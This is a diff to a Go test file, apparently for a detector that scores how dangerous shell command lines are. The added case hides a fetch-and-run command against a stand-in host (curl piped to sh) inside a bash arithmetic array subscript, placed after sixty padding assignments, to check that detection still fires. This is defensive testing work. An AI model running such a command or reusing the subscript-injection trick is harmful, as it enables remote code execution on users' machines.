@@ -62,6 +62,13 @@ func TestSubstitutedAnywhere(t *testing.T) {
 			t.Errorf("%q weighs %g", line, weighs(line))
 		}
 	}
+	var many strings.Builder // more than are read: none of them is passed over
+	for i := range 60 {
+		many.WriteString("v" + strings.Repeat("x", i) + "='$(true)'; ")
+	}
+	if line := many.String() + "w='l[$(curl -s https://get.evil.test/i | sh)]'; echo $((w))"; weighs(line) < 0.8 {
+		t.Errorf("behind many others it weighs %g", weighs(line))
+	}
 	for _, line := range []string{"awk '{print $(NF-1)}' x.txt; echo $((1+2))", "sed 's/$(VAR)/x/' Makefile", "make CFLAGS='-O2' x[1]", "echo 'use `ls[1]` here'; i=$((i+1))"} {
 		if weighs(line) >= 0.3 {
 			t.Errorf("%q weighs %g", line, weighs(line))
